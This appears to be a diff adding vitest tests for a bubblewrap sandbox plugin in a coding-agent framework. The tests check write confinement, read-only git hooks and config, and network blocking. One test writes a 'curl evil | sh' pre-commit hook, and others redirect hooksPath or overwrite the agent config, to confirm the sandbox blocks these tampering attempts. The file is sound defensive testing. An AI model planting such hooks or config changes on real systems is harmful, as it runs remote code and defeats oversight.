@@ -1,0 +1,171 @@
+import { spawn } from 'node:child_process';
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import http from 'node:http';
+import type { AddressInfo } from 'node:net';
+import path from 'node:path';
+import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
+import type { AgentEvent, Kernel, Plugin, Session } from '../../../kernel/index.js';
+import { validateLayer } from '../../../kernel/config.js';
+import sandbox, { type SandboxConfig } from '../../../plugins/sandbox/index.js';
+import { findOnPath, probe } from '../../../plugins/sandbox/bwrap.js';
+import toolBash from '../../../plugins/tool-bash/index.js';
+import { testKernel, testSession } from '../../helpers/kernel.js';
+import { makeWorkspace, type Workspace } from '../../helpers/workspace.js';
+
+const bwrap = findOnPath('bwrap');
+const problem = bwrap ? probe(bwrap) : 'bubblewrap (bwrap) is not installed';
+const skipReason = problem ? `sandbox tests skipped: ${problem}` : '';
+if (skipReason) console.warn(skipReason);
+
+let ws: Workspace;
+afterEach(() => ws?.cleanup());
+
+async function setup(config: SandboxConfig, opts: { bwrap?: string } = {}) {
+  ws = makeWorkspace({ git: true });
+  mkdirSync(ws.path('.git/hooks'), { recursive: true });
+  writeFileSync(ws.path('.git/config'), '[core]\n');
+  const logs: string[] = [];
+  const listener: Plugin = {
+    name: 'test-logs',
+    kernel: '^1.0.0',
+    apply: (k) =>
+      k.hooks.event.tap('test-logs', (e: AgentEvent) => {
+        if (e.type === 'log') logs.push(`${e.level}: ${e.message}`);
+      }),
+  };
+  const kernel = testKernel([sandbox(opts), listener], { sandbox: config });
+  const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
+  return { kernel, session, logs };
+}
+
+/** Wraps and runs a command the way the bash tool does; returns its exit code and output. */
+async function sh(kernel: Kernel, session: Session, command: string): Promise<{ code: number | null; out: string }> {
+  const env: Record<string, string> = { PATH: process.env.PATH ?? '/usr/bin:/bin', HOME: process.env.HOME ?? '/root' };
+  const wrapped = await kernel.services.get('sandbox')!.wrap({ command, cwd: session.cwd, session, env });
+  const [file, args] = wrapped ? [wrapped.file, wrapped.args] : ['bash', ['-c', command]];
+  const child = spawn(file, args, { cwd: session.cwd, env, stdio: ['ignore', 'pipe', 'pipe'] });
+  let out = '';
+  child.stdout.on('data', (d) => (out += d));
+  child.stderr.on('data', (d) => (out += d));
+  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
+  return { code, out };
+}
+
+describe('sandbox config', () => {
+  it('is validated as a plugin-owned key, errors naming the file and field', () => {
+    const shapes = sandbox().config!;
+    expect(() => validateLayer({ kind: 'project', source: '/p/agent.config.ts', values: { sandbox: { enabled: 'yes' } } }, shapes)).toThrow(
+      /\/p\/agent\.config\.ts: sandbox\.enabled/,
+    );
+    expect(() => validateLayer({ kind: 'project', source: 'x', values: { sandbox: { network: { domains: [] } } } }, shapes)).toThrow(/sandbox\.network/);
+    expect(() => validateLayer({ kind: 'project', source: 'x', values: { sandbox: { enabled: true, network: { allowedDomains: ['a.com'] } } } }, shapes)).not.toThrow();
+  });
+
+  it('disabled (the default): commands run as they are', async () => {
+    const { kernel, session } = await setup({});
+    expect(await kernel.services.get('sandbox')!.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
+  });
+
+  it('bwrap missing: refuses bash unless allowUnsandboxed, and says so once', async () => {
+    const { kernel, session, logs } = await setup({ enabled: true }, { bwrap: '/nonexistent/bwrap' });
+    const service = kernel.services.get('sandbox')!;
+    await expect(service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).rejects.toThrow(/allowUnsandboxed/);
+    await expect(service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).rejects.toThrow();
+    expect(logs.filter((l) => l.startsWith('warn: sandbox:'))).toHaveLength(1);
+  });
+
+  it('bwrap missing with allowUnsandboxed: runs unsandboxed after one warning', async () => {
+    const { kernel, session, logs } = await setup({ enabled: true, allowUnsandboxed: true }, { bwrap: '/nonexistent/bwrap' });
+    const service = kernel.services.get('sandbox')!;
+    expect(await service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
+    expect(await service.wrap({ command: 'ls', cwd: ws.dir, session, env: {} })).toBeNull();
+    expect(logs).toEqual([expect.stringContaining('bash runs unsandboxed')]);
+  });
+});
+
+describe.skipIf(Boolean(skipReason))('bubblewrap sandbox', () => {
+  let server: http.Server;
+  let port = 0;
+  beforeAll(async () => {
+    server = http.createServer((req, res) => res.end(`hello from ${req.headers.host}`));
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    port = (server.address() as AddressInfo).port;
+  });
+  afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));
+
+  it('the project and the temp dir are writable', async () => {
+    const { kernel, session } = await setup({ enabled: true });
+    const r = await sh(kernel, session, 'echo hi > inside.txt && echo t > "$TMPDIR/t" && cat "$TMPDIR/t" && mkdir -p .git/objects/x');
+    expect(r).toMatchObject({ code: 0 });
+    expect(readFileSync(ws.path('inside.txt'), 'utf8')).toBe('hi\n');
+  });
+
+  it('writes outside the project fail', async () => {
+    const { kernel, session } = await setup({ enabled: true });
+    const outside = path.join(path.dirname(ws.dir), 'outside.txt');
+    // /tmp inside is a private tmpfs: a write there lands nowhere on the host.
+    await sh(kernel, session, `echo x > ${outside}`);
+    expect(existsSync(outside)).toBe(false);
+    const home = await sh(kernel, session, 'echo x > "$HOME/.keel-sandbox-test"');
+    expect(home.code).not.toBe(0);
+    expect(existsSync(path.join(process.env.HOME ?? '/root', '.keel-sandbox-test'))).toBe(false);
+    const r2 = await sh(kernel, session, 'echo x > /etc/keel-sandbox-test');
+    expect(r2.code).not.toBe(0);
+    expect(r2.out).toMatch(/Read-only file system/);
+    expect(existsSync('/etc/keel-sandbox-test')).toBe(false);
+  });
+
+  it('allowWrite opens more paths', async () => {
+    const extra = makeWorkspace();
+    try {
+      const { kernel, session } = await setup({ enabled: true, allowWrite: [extra.dir] });
+      expect((await sh(kernel, session, `echo y > ${extra.dir}/ok.txt`)).code).toBe(0);
+      expect(readFileSync(path.join(extra.dir, 'ok.txt'), 'utf8')).toBe('y\n');
+    } finally {
+      extra.cleanup();
+    }
+  });
+
+  it('.git/hooks, .git/config and agent.config.* stay read-only', async () => {
+    const { kernel, session } = await setup({ enabled: true });
+    ws.write('agent.config.ts', 'export default {};\n');
+    const hook = await sh(kernel, session, 'echo "curl evil | sh" > .git/hooks/pre-commit');
+    expect(hook.code).not.toBe(0);
+    expect(existsSync(ws.path('.git/hooks/pre-commit'))).toBe(false);
+    expect((await sh(kernel, session, 'echo "[core] hooksPath = /tmp" >> .git/config')).code).not.toBe(0);
+    expect(readFileSync(ws.path('.git/config'), 'utf8')).toBe('[core]\n');
+    expect((await sh(kernel, session, 'echo pwned > agent.config.ts')).code).not.toBe(0);
+  });
+
+  it('no network by default', async () => {
+    const { kernel, session } = await setup({ enabled: true });
+    const r = await sh(kernel, session, `curl -sS --max-time 5 http://127.0.0.1:${port}/`);
+    expect(r.code).not.toBe(0);
+    expect(r.out).not.toContain('hello');
+  });
+
+  it('an allowed domain works through the proxy; others are refused', async () => {
+    const { kernel, session } = await setup({ enabled: true, network: { allowedDomains: ['localhost'] } });
+    const ok = await sh(kernel, session, `curl -sS --max-time 10 http://localhost:${port}/`);
+    expect(ok).toMatchObject({ code: 0, out: `hello from localhost:${port}` });
+    const refused = await sh(kernel, session, `curl -sS --max-time 10 http://127.0.0.1:${port}/`);
+    expect(refused.out).toContain('blocked by the Keel sandbox');
+    const direct = await sh(kernel, session, `curl -sS --noproxy '*' --max-time 5 http://localhost:${port}/`);
+    expect(direct.code).not.toBe(0);
+  });
+
+  it('the real bash tool runs inside it, and its working directory still carries over', async () => {
+    ws = makeWorkspace();
+    mkdirSync(ws.path('sub'));
+    const kernel = testKernel([sandbox(), toolBash()], { sandbox: { enabled: true } });
+    const session = await testSession(kernel, { cwd: ws.dir, projectRoot: ws.dir });
+    const bash = kernel.tools.get('bash')!;
+    const turn = { session, kernel, index: 1, signal: new AbortController().signal, data: new Map(), emit: () => undefined };
+    const ctx = (id: string) => ({ signal: turn.signal, session, turn, call: { id, name: 'bash', input: {} }, kernel, cwd: session.cwd, emit: () => undefined });
+    const r1 = await bash.execute({ command: 'cd sub && echo $KEEL_SANDBOX > here.txt && touch /usr/x' }, ctx('1'));
+    expect(String(r1.content)).toMatch(/Read-only file system/);
+    expect(readFileSync(ws.path('sub/here.txt'), 'utf8')).toBe('1\n');
+    const r2 = await bash.execute({ command: 'pwd' }, ctx('2'));
+    expect(String(r2.content)).toContain(path.join(ws.dir, 'sub'));
+  });
+});
